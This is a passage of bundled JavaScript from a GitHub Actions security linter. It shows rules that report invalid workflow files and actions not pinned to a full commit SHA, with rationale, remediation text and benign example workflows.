            related: others.map((entry) => ({ location: (0,locate/* locate */.x5)(file, entry.span), message: 'Given to all of them too.' })),
            severity: riskOf(worst),
            confidence: 'medium',
        },
    ];
}
function writeAll(location, job, whose) {
    return { kind: 'violation', message: 'write-all', data: { job, scopes: 'write-all', whose }, location, severity: 'high' };
}
function writesOf(scopes) {
    const writes = scopes.filter((entry) => entry.level === 'write');
    return [...writes.filter((entry) => riskOf(entry) === 'high'), ...writes.filter((entry) => riskOf(entry) !== 'high')];
}
function riskOf({ scope }) {
    return permissionKeyOf(scope)?.risk ?? 'medium';
}
function jobsText(jobs) {
    return jobs.length === 1 ? `job ${excessive_permissions_listed(jobs)}` : `${jobs.length} jobs (${excessive_permissions_listed(jobs)})`;
}
function excessive_permissions_listed(jobs) {
    const names = jobs.slice(0, 5).map((job) => `\`${job.id.value}\``);
    return jobs.length > names.length ? `${names.join(', ')}, ...` : names.join(', ');
}

;// CONCATENATED MODULE: ./build/src/rules/workflow/invalid.js




const maxPerFile = 20;
/* harmony default export */ const invalid = ((0,define_rule/* defineRule */.K)({
    meta: {
        id: 'workflow/invalid',
        title: 'Pipeline files are what GitHub would run',
        severity: 'medium',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'merge', 'deploy'],
        presets: { recommended: 'warn', strict: 'deny' },
        unknown: { posture: 'warn', merge: 'warn', deploy: 'warn' },
        controls: [
            { framework: 'NIST-CSF', id: 'PR.PS-01' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-7' },
            { framework: 'SSDF', id: 'PO.3' },
        ],
        rationale: 'A file that GitHub refuses never runs, and a check that it carried is silently gone. A file that two readers understand differently hides from one of them what the other executes. What cannot be read here is unknown for every rule that would have judged it, never a pass.',
        remediation: 'Put the named place right; the message says what GitHub accepts there.',
        messages: {
            yaml: 'Not YAML as GitHub reads it: {problem}',
            schema: 'GitHub refuses this: {problem}',
            expression: '{problem}. GitHub refuses the whole file',
            more: '{count} more problems in this file are not listed. Put the first ones right, and look again',
        },
        examples: [
            {
                title: 'A job that neither has steps nor calls a workflow',
                files: { '.github/workflows/ci.yml': 'on: push\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    step:\n      - run: make\n' },
                expect: [
                    { message: 'schema', path: '.github/workflows/ci.yml', line: 3 },
                    { message: 'schema', path: '.github/workflows/ci.yml', line: 5 },
                ],
            },
            {
                title: 'A workflow that GitHub runs',
                files: { '.github/workflows/ci.yml': 'on: push\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make\n' },
                expect: [],
            },
        ],
        options: {},
        key: ['item'],
    },
    needs: ['pipeline', 'problems'],
    evaluate({ pipeline, problems }) {
        if (pipeline.texts.size === 0 && problems.length === 0)
            return (0,finding/* notApplicable */.hH)('there is no pipeline file here');
        const byPath = new Map();
        for (const problem of problems.filter(isDefect))
            byPath.set(problem.path, [...(byPath.get(problem.path) ?? []), problem]);
        return [...[...byPath.values()].flatMap(ofFile), ...problems.flatMap(ofReading)];
    },
}));
function isDefect(problem) {
    return problem.code === 'yaml' || problem.code === 'schema' || problem.code === 'expression';
}
function ofFile(defects) {
    const shown = defects.slice(0, maxPerFile).map(violationOf);
    const first = defects[maxPerFile];
    if (first === undefined)
        return shown;
    const count = String(defects.length - maxPerFile);
    const data = { item: first.path, problem: '', count };
    return [...shown, { kind: 'violation', message: 'more', data, location: invalid_locationOf(first) }];
}
function violationOf(defect) {
    const problem = defect.code === 'expression' ? sentence(defect.message) : defect.message;
    const data = { item: defect.item, problem };
    return { kind: 'violation', message: defect.code, data, location: invalid_locationOf(defect) };
}
function sentence(text) {
    return text.slice(0, 1).toUpperCase() + text.slice(1);
}
function ofReading(problem) {
    if (isDefect(problem))
        return [];
    const cause = problem.code === 'yaml-limit' ? 'limit' : 'invalid';
    return [(0,core_facts/* gap */.rQ)({ item: problem.item, cause, why: problem.message, location: invalid_locationOf(problem) })];
}
function invalid_locationOf({ path, file, span }) {
    const start = { line: 1, column: 1 };
    return file === undefined ? { path, start, end: start } : (0,locate/* locate */.x5)(file, span);
}

;// CONCATENATED MODULE: ./build/src/rules/support/lock-claim.js
const version = 'v0.0.2';
class LockClaims {
    #locks;
    constructor(locks, problems) {
        const broken = new Set(problems.map(({ path }) => path));
        this.#locks = locks.filter((lock) => lock.version?.value === version && !broken.has(lock.file.path)).map(read);
    }
    covers(target, file) {
        const repository = `${target.owner}/${target.name}`;
        const keys = [keyOf(`${repository}@${target.ref}`), keyOf(`${repository}/${target.path}@${target.ref}`)];
        const path = file.root === '' ? file.path : file.path.slice(file.root.length + 1);
        const isWorkflow = path.startsWith('.github/workflows/');
        const isIn = (refs) => keys.some((key) => refs?.has(key) === true);
        return this.#locks.some(({ root, workflows, pinned }) => root === file.root && isIn(pinned) && (!isWorkflow || isIn(workflows.get(path))));
    }
}
function read({ file, workflows, dependencies }) {
    return {
        root: file.root,
        workflows: new Map(workflows.map(({ path, refs }) => [path.value, new Set(refs.map((ref) => keyOf(ref.value)))])),
        pinned: new Set(dependencies.filter(({ commit }) => isCommit(commit?.value)).map(({ ref }) => keyOf(ref.value))),
    };
}
function isCommit(commit) {
    return commit !== undefined && /^(?:sha1-[0-9a-f]{40}|sha256-[0-9a-f]{64})$/.test(commit);
}
function keyOf(ref) {
    const at = ref.indexOf('@');
    return at < 0 ? ref : ref.slice(0, at).toLowerCase() + ref.slice(at);
}

;// CONCATENATED MODULE: ./build/src/rules/support/pin-level.js

function refKindOf(ref) {
    if (/^(?:[0-9a-f]{40}|[0-9a-f]{64})$/i.test(ref))
        return 'sha';
    if (ref.startsWith('refs/tags/'))
        return 'tag';
    if (ref.startsWith('refs/heads/') || !/[0-9]/.test(ref))
        return 'branch';
    return /^(?=.*[a-f])[0-9a-f]{7,63}$/i.test(ref) ? 'short-sha' : 'tag';
}
const calledByTag = ['slsa-framework/slsa-github-generator/.github/workflows/'];
function pinLevelFor(pins, repository, path) {
    const names = [repository, ...(path === '' ? [] : [`${repository}/${path}`])].map((name) => name.toLowerCase());
    const byTag = calledByTag.find((start) => names.some((name) => name.startsWith(start)));
    let best = byTag === undefined ? { pattern: '', level: 'sha' } : { pattern: byTag, level: 'tag' };
    for (const [pattern, level] of Object.entries(pins)) {
        const isMatch = pattern === '*' || (pattern.length <= glob/* patternLimit */.An && names.some((name) => (0,glob/* matchesGlob */.kt)(pattern.toLowerCase(), name)));
        if (isMatch && pattern.length > best.pattern.length)
            best = { pattern, level };
    }
    return best.level;
}
function satisfies(kind, level) {
    if (level === 'any' || kind === 'sha')
        return true;
    return level === 'tag' && kind === 'tag';
}

;// CONCATENATED MODULE: ./build/src/rules/support/uses-in.js

function usesIn(workflows, actions) {
    return [...workflows.flatMap(usesOfWorkflow), ...actions.flatMap(usesOfAction)];
}
function usesOfWorkflow(workflow) {
    const { file } = workflow;
    const calls = workflow.jobs.flatMap((job) => (job.kind === 'call' ? [{ file, uses: job.uses, isCall: true }] : []));
    const steps = [...(0,walk/* stepsOf */.B_)(workflow)].flatMap(({ step }) => (step.kind === 'uses' ? [{ file, uses: step.uses, isCall: false }] : []));
    return [...calls, ...steps].toSorted((a, b) => a.uses.scalar.span.start - b.uses.scalar.span.start);
}
function usesOfAction(action) {
    const { file } = action;
    return (0,walk/* stepsOfAction */.VL)(action).flatMap((step) => (step.kind === 'uses' ? [{ file, uses: step.uses, isCall: false }] : []));
}

;// CONCATENATED MODULE: ./build/src/rules/workflow/unpinned-action.js






const unpinned_action_maxRelated = 50;
const platformOwners = new Set(['actions', 'github']);
/* harmony default export */ const unpinned_action = ((0,define_rule/* defineRule */.K)({
    meta: {
        id: 'workflow/unpinned-action',
        title: 'Actions and reusable workflows of other repositories are named by a full commit SHA',
        severity: 'medium',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'merge', 'deploy'],
        presets: { recommended: 'warn', strict: 'deny' },
        unknown: { posture: 'warn', merge: 'deny', deploy: 'deny' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI3:2025' },
            { framework: 'NIST-CSF', id: 'PR.PS-05' },
            { framework: 'NIST-CSF', id: 'GV.SC-07' },
            { framework: 'NIST-800-207', id: 'T5' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-3' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-8' },
            { framework: 'SSDF', id: 'PO.3' },
        ],
        rationale: 'A tag or branch of another repository can be moved to other code at any time, and your next run executes it with your token and secrets. In March 2025 nearly all tags of tj-actions/changed-files were moved to a commit that printed the secrets of its users to their logs (CVE-2025-30066); in March 2026 the same happened to aquasecurity/trivy-action (CVE-2026-33634). Workflows with a full SHA were not touched by either. A short SHA is no pin: GitHub resolves names first, and a tag can be called like it. `pinact run` rewrites all workflows at once, for example to `actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2`; Dependabot and Renovate keep SHA and comment up to date. To trust the tags of an owner, set the option `pins`.',
        remediation: 'Write `uses: {action}@<40 hex digits> # {ref}`, with the full SHA of the commit that you reviewed. `git ls-remote https://github.com/{repository} {ref}` shows the one of today.',
        messages: {
            branch: '{what} follows a branch: whoever can push to `{repository}` changes what runs here. Name a full commit SHA',
            tag: '{what} is named by a tag, and whoever can write to `{repository}` can move it to other code. Name a full commit SHA',
            'short-sha': '{what} is named by {digits} hex digits, which is no pin: a tag or branch of that name comes first. Name all 40 digits',
        },
        examples: [
            {
                title: 'A branch and a tag',
                files: {
                    '.github/workflows/ci.yml': 'on: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v4\n      - uses: acme/scan@main\n      - run: make\n      - uses: acme/scan/report@main\n',
                },
                expect: [
                    { message: 'tag', path: '.github/workflows/ci.yml', line: 7 },
                    { message: 'branch', path: '.github/workflows/ci.yml', line: 8 },
                    { message: 'branch', path: '.github/workflows/ci.yml', line: 10 },
                ],
            },
            {
                title: 'A full SHA with its version, the repository itself, and a called workflow at a SHA',
                files: {
                    '.github/workflows/ci.yml': 'on: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n      - uses: ./.github/actions/build\n  call:\n    uses: acme/build/.github/workflows/build.yml@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v2\n',
                },
                expect: [],
            },
            {
                title: 'Tags of the own organisation are trusted by the policy',
                files: {
                    '.github/workflows/ci.yml': 'on: push\njobs:\n  call:\n    uses: acme/build/.github/workflows/build.yml@v2\n',
                },
                options: { pins: { '*': 'sha', 'acme/*': 'tag' } },
                expect: [],
            },
        ],
        options: {
            pins: {
                type: 'levels',
                levels: ['sha', 'tag', 'any'],
                default: { '*': 'sha' },
                description: 'What is demanded of which repository: a pattern such as `acme/*` or `acme/tool` and `sha`, `tag` (a ref with a digit in it) or `any`. The longest pattern that fits counts. The builders of slsa-github-generator, which refuse to run unless they are named by a version tag, need no entry.',
            },
        },
        key: ['uses'],
    },
    needs: ['workflows', 'actions', 'locks', 'problems'],
    evaluate({ workflows, actions, locks, problems }, options) {
        const all = usesIn(workflows.items, actions.items);
        const groups = groupsOf(all).filter(({ target, kind }) => !satisfies(kind, pinLevelFor(options.pins, `${target.owner}/${target.name}`, target.path)));
        const claims = new LockClaims(locks.items, problems);
        return [...groups.map((group) => unpinned_action_judge(group, claims)), ...all.flatMap(unreadable)];
    },
}));
function groupsOf(all) {
    const groups = new Map();
    for (const place of all) {
        const { target } = place.uses;
        if (target.kind !== 'repository')
            continue;
        const kind = refKindOf(target.ref);
        if (kind === 'sha')
            continue;
        const key = JSON.stringify([place.file.path, unpinned_action_nameOf(target).toLowerCase(), target.ref]);
        const group = groups.get(key);
        if (group === undefined)
            groups.set(key, { first: place, target, kind, others: [] });
        else
            group.others.push(place);
    }
    return [...groups.values()];
}
function unpinned_action_judge(group, claims) {
    return claims.covers(group.target, group.first.file) ? unverified(group) : unpinned_action_violationOf(group);
}
function unpinned_action_violationOf({ target, kind, first, others }) {
    const uses = `${unpinned_action_nameOf(target)}@${target.ref}`;
    const data = {
        uses,
        what: others.length === 0 ? `\`${uses}\`` : `\`${uses}\` (${others.length + 1} times in this file)`,
        action: unpinned_action_nameOf(target),
        repository: `${target.owner}/${target.name}`,
        ref: target.ref,
        digits: String(target.ref.length),
    };
    return {
        kind: 'violation',
        message: kind,
        data,
        location: unpinned_action_locationOf(first),
        related: others.slice(0, unpinned_action_maxRelated).map((place) => ({ location: unpinned_action_locationOf(place), message: 'Used here too.' })),
        severity: severityOf(kind, target.owner),
    };
}
function severityOf(kind, owner) {
    const isPlatform = platformOwners.has(owner.toLowerCase());
    if (kind === 'branch')
        return isPlatform ? 'medium' : 'high';
    return isPlatform ? 'low' : 'medium';
}
function unverified({ target, first }) {
    return (0,core_facts/* gap */.rQ)({
        item: `${unpinned_action_nameOf(target)}@${target.ref}`,
        cause: 'unresolvable',
        why: 'only actions.lock names its commit, and nobody checked here that the lock holds',
        remedy: 'Name the full SHA in the workflow as well.',
        location: unpinned_action_locationOf(first),
    });
}
function unreadable(place) {
    const { target, scalar } = place.uses;
    if (target.kind !== 'unreadable')
        return [];
    const shown = scalar.value.replace(/\/\/[^/]*@/, '//***@').slice(0, 100);
    return [(0,core_facts/* gap */.rQ)({ item: `uses: ${shown}`, cause: 'invalid', why: target.why, location: unpinned_action_locationOf(place) })];
}
function unpinned_action_nameOf(target) {
    return target.path === '' ? `${target.owner}/${target.name}` : `${target.owner}/${target.name}/${target.path}`;
}
function unpinned_action_locationOf({ file, uses }) {
    return (0,locate/* locate */.x5)(file, uses.scalar.alias ?? uses.scalar.span);
}

;// CONCATENATED MODULE: ./build/src/rules/common.gen.js




















const rules = [
    self_review_allowed,
    unknown_environment,
    unprotected_environment,
    mutable_reference,
    unapproved_registry,
    exception_expired,
    gate_ineffective,
    loosened,
    no_rules,
    not_binding,
    bulk_exposure,
    inherit,
    publish_token,
    stale,
    static_credential,
    unscoped,
    default_permissions,
    excessive_permissions,
    invalid,
    unpinned_action,
];

;// CONCATENATED MODULE: ./build/src/start/judges.js





/***/ })

};
